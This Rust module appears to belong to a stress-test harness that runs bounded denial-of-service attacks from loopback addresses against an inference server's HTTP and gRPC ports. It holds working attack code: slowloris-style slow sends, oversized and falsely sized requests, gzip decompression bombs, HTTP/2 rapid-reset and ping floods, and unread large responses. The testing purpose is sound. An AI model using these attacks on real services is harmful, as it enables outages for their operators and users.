//! The attacks. Each is bounded in connections, in attempts, and in time.

use std::io::{Read, Result, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream};
use std::os::fd::OwnedFd;
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use flate2::Compression;
use flate2::write::GzEncoder;
use rustix::net::sockopt::{Timeout, set_socket_timeout};
use rustix::net::{AddressFamily, SocketType, bind, connect, socket};

use super::frames;
use super::target::Target;

/// Connections that are held at the same time.
const CONNECTIONS: usize = 1000;

/// Connections that send something slowly.
const SLOW: usize = 200;

/// Answers that are not read.
const UNREAD: usize = 50;

/// Between two connections.
const PAUSE: Duration = Duration::from_millis(2);

/// Between two large requests.
const HUGE_PAUSE: Duration = Duration::from_millis(50);

/// Most bytes of a large request that are sent.
const HUGE: usize = 64 << 20;

/// How long an attacker waits for a server that takes nothing.
const PATIENCE: Duration = Duration::from_millis(200);

/// Bombs that are under way at the same time. Together they stay within the server's budget: a full budget refuses everybody.
const BOMBERS: usize = 4;

/// How long the sender of a bomb waits for its answer.
const ANSWERED: Duration = Duration::from_secs(5);

/// The number of this host's addresses that attackers use: 127.0.0.2 and the following ones.
const ADDRESSES: usize = 8;

const INFER: &str = "/inference.GRPCInferenceService/ModelInfer";
const STREAM: &str = "/inference.GRPCInferenceService/ModelStreamInfer";

/// An attack.
pub struct Attack {
    /// Its name.
    pub name: &'static str,
    /// Attacks until the given time and returns the number of attempts.
    pub run: fn(Target, Instant) -> usize,
}

/// All attacks.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "silent", run: silent },
    Attack { name: "slow", run: slow },
    Attack { name: "huge", run: huge },
    Attack { name: "bombs", run: bombs },
    Attack { name: "many", run: many },
    Attack { name: "unread", run: unread },
];

/// A connection from one of the attackers' addresses.
fn open(to: SocketAddr, number: usize) -> Result<TcpStream> {
    let from = SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, (2 + number % ADDRESSES) as u8), 0);
    let descriptor: OwnedFd = socket(AddressFamily::INET, SocketType::STREAM, None)?;
    // For connecting as well as for sending.
    set_socket_timeout(&descriptor, Timeout::Send, Some(PATIENCE))?;
    bind(&descriptor, &from)?;
    connect(&descriptor, &to)?;
    Ok(TcpStream::from(descriptor))
}

/// Connections to both ports of which nothing comes; the oldest go for new ones.
fn silent(target: Target, until: Instant) -> usize {
    let (mut held, mut opened) = (std::collections::VecDeque::new(), 0);
    while Instant::now() < until {
        let to = if opened % 2 == 0 { target.http } else { target.grpc };
        held.extend(open(to, opened / 2));
        if held.len() > CONNECTIONS {
            held.pop_front();
        }
        opened += 1;
        std::thread::sleep(PAUSE);
    }
    opened
}

/// Heads, bodies and calls that come byte by byte.
fn slow(target: Target, until: Instant) -> usize {
    let body = b"POST /v2/models/simple/infer HTTP/1.1\r\nHost: siege\r\nContent-Length: 100000\r\n\r\n".to_vec();
    let call = [frames::PREFACE, &frames::call(1, INFER), &frames::data(1, &[0, 0, 0, 255, 255])].concat();
    let stream = [frames::PREFACE, &frames::call(1, STREAM), &frames::data(1, &[0, 0, 0, 255, 255])].concat();
    let beginnings = [b"GET /v2/health/live HTT".to_vec(), body, call, stream];
    let (mut held, mut sent) = (Vec::new(), 0);
    while Instant::now() < until {
        if held.len() < SLOW {
            let way = held.len() % beginnings.len();
            let to = if way < 2 { target.http } else { target.grpc };
            if let Ok(mut stream) = open(to, held.len())
                && stream.write_all(&beginnings[way]).is_ok()
            {
                held.push((way, stream));
            }
            std::thread::sleep(PAUSE);
            continue;
        }
        for (way, stream) in held.iter_mut() {
            let piece = if *way < 2 { b"x".to_vec() } else { frames::data(1, b"x") };
            sent += usize::from(stream.write_all(&piece).is_ok());
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    sent
}

/// Requests that are large, claim to be, or expand to it.
fn huge(target: Target, until: Instant) -> usize {
    let head = |more: &str| format!("POST /v2/models/simple/infer HTTP/1.1\r\nHost: siege\r\n{more}\r\n").into_bytes();
    let endless = head("Content-Length: 1099511627776\r\n");
    let long_head = head(&format!("X-Long: {}\r\n", "x".repeat(1 << 20)));
    let bomb = [head(&format!("Content-Encoding: gzip\r\nContent-Length: {}\r\n", BOMB.len())), BOMB.clone()].concat();
    let nested = "[".repeat(1 << 20);
    let nested = [head(&format!("Content-Length: {}\r\n", nested.len())), nested.into_bytes()].concat();
    let claims = [frames::PREFACE, &frames::call(1, INFER), &frames::data(1, &[0, 127, 255, 255, 255])].concat();
    let requests: [(&[u8], bool, SocketAddr); 5] = [
        (&endless, true, target.http),
        (&long_head, false, target.http),
        (&bomb, false, target.http),
        (&nested, false, target.http),
        (&claims, true, target.grpc),
    ];
    let piece = vec![b' '; 16 << 10];
    let frame = frames::data(1, &piece);
    let mut sent = 0;
    while Instant::now() < until {
        let (request, goes_on, to) = requests[sent % requests.len()];
        if let Ok(mut stream) = open(to, sent) {
            let mut rest = if goes_on { HUGE } else { 0 };
            let more = if to == target.grpc { &frame } else { &piece };
            // A server that has had enough closes, or takes nothing more.
            let mut goes = stream.write_all(request).is_ok();
            while goes && rest > 0 && Instant::now() < until {
                goes = stream.write_all(more).is_ok();
                rest = rest.saturating_sub(more.len());
            }
        }
        sent += 1;
        std::thread::sleep(HUGE_PAUSE);
    }
    sent
}

/// Bodies of some kB that expand to many MiB, of which all but the last bytes are read as tensors; several at a time.
fn bombs(target: Target, until: Instant) -> usize {
    let head = |length: usize| {
        format!(
            "POST /v2/models/simple/infer HTTP/1.1\r\nHost: siege\r\nConnection: close\r\nContent-Encoding: gzip\r\n\
             Content-Length: {length}\r\n\r\n"
        )
    };
    let [blanks, numbers] = [&*BOMB, &*MANY_NUMBERS].map(|body| [head(body.len()).as_bytes(), body].concat());
    std::thread::scope(|scope| {
        let bombers: Vec<_> = (0..BOMBERS)
            .map(|number| {
                let (blanks, numbers) = (&blanks, &numbers);
                scope.spawn(move || {
                    let mut sent = 0;
                    while Instant::now() < until {
                        if let Ok(mut stream) = open(target.http, number) {
                            let body = if (number + sent) % 2 == 0 { blanks } else { numbers };
                            let _ = stream.set_read_timeout(Some(ANSWERED));
                            // The next one is sent when this one is answered, so that the number of those under way is bounded.
                            let _ = stream.write_all(body).and_then(|()| stream.read_to_end(&mut Vec::new()));
                        }
                        sent += 1;
                    }
                    sent
                })
            })
            .collect();
        bombers.into_iter().map(|bomber| bomber.join().unwrap_or_default()).sum()
    })
}

/// An input with so many numbers that they take 40 MiB as a tensor, in some kB.
static MANY_NUMBERS: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let count = 10 << 20;
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let begin = format!(r#"{{"inputs":[{{"name":"INPUT0","datatype":"INT32","shape":[{count}],"data":["#);
    let ones = b"1,".repeat(1 << 20);
    encoder.write_all(begin.as_bytes()).expect("it is memory");
    (0..10).for_each(|_| encoder.write_all(&ones).expect("it is memory"));
    encoder.write_all(b"1]}]}").expect("it is memory");
    encoder.finish().expect("it is memory")
});

/// 60 MiB of blanks in some kB.
static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let blanks = vec![b' '; 1 << 20];
    (0..60).for_each(|_| encoder.write_all(&blanks).expect("it is memory"));
    encoder.finish().expect("it is memory")
});

/// Makes the bodies that take long to make, so that their making is no part of an attack.
pub fn prepare() {
    LazyLock::force(&BOMB);
    LazyLock::force(&MANY_NUMBERS);
}

/// Connections that come and go, with requests whose client leaves, and calls that are cancelled at once.
fn many(target: Target, until: Instant) -> usize {
    let question = b"GET /v2 HTTP/1.1\r\nHost: siege\r\n\r\n".repeat(10);
    let calls = (0..100).flat_map(|call| [frames::call(2 * call + 1, INFER), frames::reset(2 * call + 1)].concat());
    let reset: Vec<u8> = frames::PREFACE.iter().copied().chain(calls).collect();
    let pings = [frames::PREFACE, &frames::ping().repeat(100), &frames::settings().repeat(100)].concat();
    let requests: [(&[u8], SocketAddr); 5] = [
        (b"", target.http),
        (&question, target.http),
        (b"", target.grpc),
        (&reset, target.grpc),
        (&pings, target.grpc),
    ];
    let mut opened = 0;
    while Instant::now() < until {
        let (request, to) = requests[opened % requests.len()];
        if let Ok(mut stream) = open(to, opened) {
            let _ = stream.write_all(request);
        }
        opened += 1;
        std::thread::sleep(PAUSE);
    }
    opened
}

/// Requests with answers of a MiB that their client does not read.
fn unread(target: Target, until: Instant) -> usize {
    let header = r#"{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,262144],"parameters":{"binary_data_size":1048576}}],"outputs":[{"name":"OUTPUT0","parameters":{"binary_data":true}}]}"#;
    let head = format!(
        "POST /v2/models/identity_fp32/infer HTTP/1.1\r\nHost: siege\r\nInference-Header-Content-Length: {}\r\nContent-Length: {}\r\n\r\n",
        header.len(),
        header.len() + (1 << 20)
    );
    let request = [head.as_bytes(), header.as_bytes(), &vec![0; 1 << 20]].concat();
    let mut held = Vec::new();
    while Instant::now() < until {
        if held.len() < UNREAD
            && let Ok(mut stream) = open(target.http, held.len())
        {
            let _ = stream.write_all(&request);
            held.push(stream);
        }
        std::thread::sleep(HUGE_PAUSE);
    }
    held.len()
}
